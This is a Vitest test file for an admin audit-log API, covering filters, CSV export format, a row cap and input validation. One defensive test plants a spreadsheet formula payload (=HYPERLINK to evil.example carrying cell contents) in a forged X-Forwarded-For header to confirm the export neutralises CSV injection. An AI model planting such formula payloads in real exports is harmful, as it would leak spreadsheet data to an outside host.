import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEventView } from '../../src/admin/admin-views.js';
import { call } from '@duotoken/test-kit/standard-client';
import { ADMIN, type TestServer } from '../helpers/test-server.js';
import { bearer, login, loginOk, SETUP, startSecurityServer } from '../security/helpers/security-server.js';

type AuditPage = { items: AuditEventView[]; next_before_id: number | null };

/** RFC 4180 rows of a CSV text (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') [cell, i] = [cell + '"', i + 1];
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') [row, cell] = [[...row, cell], ''];
    else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      [row, cell, i] = [[], '', i + 1];
    } else cell += c;
  }
  return rows;
}

/**
 * #16 audit filters (actor, subject, outcome, type prefix) and the CSV
 * export, over HTTP. The server trusts X-Forwarded-For here, so an attacker
 * chooses the address an audit event records.
 */
describe('admin API: audit filters and CSV export', () => {
  let server: TestServer;
  let admin: Record<string, string>;
  let adminId: number;
  let ruth: number;
  let sam: number;
  const audit = (query: string) => call<AuditPage>(server, 'GET', `/admin/audit${query}`, { headers: admin });

  beforeAll(async () => {
    server = await startSecurityServer({ DUOTOKEN_RATE_LIMITS: 'off', DUOTOKEN_TRUST_PROXY: 'on' });
    const services = server.runtime.services;
    ruth = (await services.admin.createUser({ account: 'ruth', password: 'ruth-password' }, SETUP)).id;
    sam = (await services.admin.createUser({ account: 'sam', password: 'sam-password' }, SETUP)).id;
    const pair = await loginOk(server, ADMIN.account, ADMIN.password);
    admin = bearer(pair.access_token);
    adminId = (await call<{ user: { id: number } }>(server, 'GET', '/auth/me', { headers: admin })).body.data.user.id;
    await login(server, 'ruth', 'wrong-password', {});
    await loginOk(server, 'ruth', 'ruth-password');
    await call(server, 'POST', '/auth/login', {
      json: { account: 'sam', password: 'wrong-password' },
      headers: { 'x-forwarded-for': '=HYPERLINK("http://evil.example/?"&A1,"click")' },
    });
    await call(server, 'POST', '/admin/users/sam/disable', { headers: admin });
    await call(server, 'DELETE', '/admin/users/ruth/sessions', { headers: admin });
  });
  afterAll(() => server.close());

  it('#16 events carry actor_id, subject_id and outcome; filters by actor, subject, outcome and type prefix', async () => {
    const aboutSam = (await audit(`?subject=${sam}`)).body.data.items;
    expect(aboutSam.map((e) => [e.type, e.actor_id, e.outcome, e.details.action])).toEqual([
      ['admin.action', adminId, 'success', 'user.disable'],
      ['login.failure', sam, 'failure', undefined],
      ['admin.action', null, 'success', 'user.create'],
    ]);
    expect(aboutSam[0]).toMatchObject({ subject_id: sam, user_id: adminId, details: { action: 'user.disable', user_id: sam } });

    const byAdmin = (await audit(`?actor=${adminId}&type=admin.`)).body.data.items;
    expect(byAdmin.map((e) => e.details.action)).toEqual(['user.disable']);
    const revoked = (await audit(`?actor=${adminId}&subject=${ruth}`)).body.data.items;
    expect(revoked.map((e) => [e.type, e.details.reason])).toEqual([['session.revoked', 'revoked_by_admin']]);

    const failures = (await audit('?outcome=failure')).body.data.items;
    expect(failures.length).toBe(2);
    expect(failures.every((e) => e.outcome === 'failure' && e.type === 'login.failure')).toBe(true);
    const successes = (await audit('?outcome=success&type=login.')).body.data.items;
    expect(successes.map((e) => [e.type, e.subject_id])).toEqual([
      ['login.success', ruth],
      ['login.success', adminId],
    ]);
    expect((await audit('?user_id=' + adminId)).body.data.items).toEqual((await audit('?actor=' + adminId)).body.data.items);
    expect((await audit('?outcome=maybe')).body.code).toBe('10001');
  });

  it('#16 the CSV export: attachment, header row, same filters, every event as a row', async () => {
    const res = await server.fetch(`/admin/audit.csv?subject=${sam}`, { headers: admin });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="duotoken-audit-[0-9TZ-]+\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual(['id', 'at', 'type', 'outcome', 'actor_id', 'subject_id', 'session_id', 'ip', 'details']);
    expect(rows.slice(1).map((r) => [r[2], r[3], r[4], r[5]])).toEqual([
      ['admin.action', 'success', String(adminId), String(sam)],
      ['login.failure', 'failure', String(sam), String(sam)],
      ['admin.action', 'success', '', String(sam)],
    ]);
    expect(rows[1]![1]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.000Z$/);
    expect(JSON.parse(rows[1]![8]!)).toEqual({ action: 'user.disable', user_id: sam });
  });

  it('#16 CSV injection (CWE-1236): an address forged through X-Forwarded-For is exported as text, never as a formula', async () => {
    const json = (await audit(`?subject=${sam}&type=login.failure`)).body.data.items;
    expect(json[0]!.ip).toMatch(/^=HYPERLINK/);
    const text = await (await server.fetch(`/admin/audit.csv?subject=${sam}&type=login.failure`, { headers: admin })).text();
    const cells = parseCsv(text).flat();
    expect(cells).toContain(`'${json[0]!.ip}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('#16 the export holds at most 10,000 events, the newest', async () => {
    const { store, clock } = server.runtime.services;
    const at = clock.now();
    await store.transaction(async (tx) => {
      for (let i = 0; i < 10_050; i++)
        await tx.insertAuditEvent({ at, type: 'bulk.event', user_id: null, session_id: null, ip: null, details: '{}', subject_id: null });
    });
    const rows = parseCsv(await (await server.fetch('/admin/audit.csv?type=bulk.event', { headers: admin })).text());
    expect(rows).toHaveLength(10_001);
    const ids = rows.slice(1).map((r) => Number(r[0]));
    expect(ids[0]).toBeGreaterThan(ids.at(-1)!);
    expect(ids[0]! - ids.at(-1)!).toBe(9_999);
  });

  it('#16 the export refuses bad filters as JSON errors', async () => {
    const res = await call(server, 'GET', '/admin/audit.csv?since=yesterday', { headers: admin });
    expect(res.status).toBe(400);
    expect(res.body.code).toBe('10001');
  });
});
